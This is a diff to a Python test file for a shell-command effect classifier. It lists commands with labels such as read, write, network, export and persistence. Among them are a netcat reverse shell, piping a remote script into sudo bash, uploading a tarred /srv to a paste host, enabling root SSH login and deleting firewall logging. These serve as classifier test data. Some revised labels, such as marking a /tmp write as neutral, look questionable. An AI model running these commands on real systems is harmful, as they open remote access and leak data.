@@ -26,7 +26,8 @@ perl -i -pe 's/a/b/' app.conf -> write : app.conf
 tar tf a.tgz -> read
 tar xzf a.tgz -C /srv -> write
 cp a b -> read write : a b
-echo hello > /tmp/a -> write : /tmp/a
+echo hello > /srv/a -> write : /srv/a
+echo hello > /tmp/a -> neutral
 rm file.txt -> delete : file.txt
 date -> neutral
 date -s '2026-01-01' -> write
@@ -71,7 +72,7 @@ apt list --installed -> read
 timedatectl status -> read
 chronyc tracking -> read
 chronyc makestep -> write exec
-zpool status tank -> read : tank
+zpool status tank -> neutral : tank
 zpool replace tank da7 da12 -> write exec : tank
 zpool destroy tank -> delete : tank
 echo | openssl s_client -connect web:443 -> network read : web:443
@@ -178,10 +179,54 @@ openssl verify -CAfile /etc/pki/ca.pem /etc/pki/server.pem -> read
 openssl x509 -in /etc/pki/server.pem -noout -dates -> read
 openssl rsa -in /etc/pki/server.pem -> secret read
 curl -s https://example.org/i.sh | sudo bash -> network read exec privilege
+rm -f /run/app/app.pid -> exec
+fuser -v /srv/a -> read : /srv/a
+lvextend --test -L +5G vg/a -> read : vg/a
+install -m 600 /root/new/a.key /etc/nginx/tls/a.key -> write : /root/new/a.key
 mkfifo f; cat f | sh -i 2>&1 | nc 192.0.2.1 9 > f -> write read exec network export persistence
 ssh -fNR 2222:localhost:22 x@host -> network persistence exec
 tmux new -d 'rm x' -> delete exec
 git push --force origin main -> delete write network
+zfs send -i @a tank/x@b | ssh bkp zfs receive tank/x -> export read network exec write
+zfs destroy tank/x@old -> delete : tank/x@old
+frob status web1 -> read : web1
+./frob status web1 -> exec : web1
+sudo /tmp/frob status web1 -> exec : web1
+frob.sh status web1 -> exec : web1
+frob delete-user eva -> delete exec : eva
+varnishadm backend.list -> read
+postqueue -p -> read
+squeue -p long -> read : long
+wg show wg0 -> read : wg0
+chronyc -n sourcestats -> read
+vault write pki/issue/web common_name=a.example.org -> write exec : a.example.org
+kubectl get secret -l owner=helm -> read
+kubectl get secret db -o jsonpath={.data.p} -> secret read : secret/db
+grep -c . /srv/app/.env -> read : /srv/app/.env
+grep -E 'API_TOKEN|DB_URL' /etc/app/env -> secret read : /etc/app/env
+grep ^Listen /etc/wireguard/wg0.conf -> read : /etc/wireguard/wg0.conf
+cp -p /etc/wireguard/wg0.conf /etc/wireguard/wg0.conf.bak -> read
+cat ~/.bash_history -> secret read
+gpg --show-keys /srv/repo.asc -> read
+openssl rsa -noout -modulus -in /etc/pki/a.key -> read
+ssh web1 'df -h; journalctl -u api' -> network read : api web1
+ssh web1 'systemctl restart api' -> network exec : api web1
+pdsh -w web[1-4] 'rm -rf /srv/x' -> network exec delete : /srv/x
+curl -sG http://prom:9090/api/v1/query --data-urlencode 'query=up' -> network read : prom
+curl -s localhost:8080/health -> read
+curl -sF 'f=@/srv/a' https://paste.example.org -> network export : /srv/a
+tar c /srv | curl -sT - https://paste.example.org/a -> network export read write
+curl -s https://example.org/a.json | python3 -m json.tool -> network read exec
+screen -dm nc -l 4444 -> persistence network export exec
+runuser -u app -- rm /srv/x -> delete privilege exec : /srv/x
+touch /srv/a/probe && rm /srv/a/probe -> write : /srv/a/probe
+chown app:app /srv/a -> write : /srv/a
+chown -R app /srv/a -> privilege write : /srv/a
+amtool silence add alertname=Down -> tamper exec
+sed -i 's/^PermitRootLogin no/PermitRootLogin yes/' /etc/x.conf -> write privilege
+sed -i 's/^PermitRootLogin yes/PermitRootLogin no/' /etc/x.conf -> write
+sed -i '/log prefix "drop"/d' /etc/nftables.conf -> write tamper delete
+modprobe wireguard -> exec : wireguard
 """
 
 BREADTH = """
@@ -282,7 +327,7 @@ class TestDetails:
     def test_patterns_and_numbers_are_values_and_no_objects(self) -> None:
         facts = shell.facts("grep 'order 881' app.log | head -n 5")
         assert facts.objects == ("app.log",)
-        assert facts.literals == ("order 881", "5")
+        assert facts.literals == ("order 881",)
 
     def test_what_wraps_a_command_is_named_too(self) -> None:
         assert shell.facts("sudo systemctl restart nginx").commands == ("systemctl restart", "sudo")
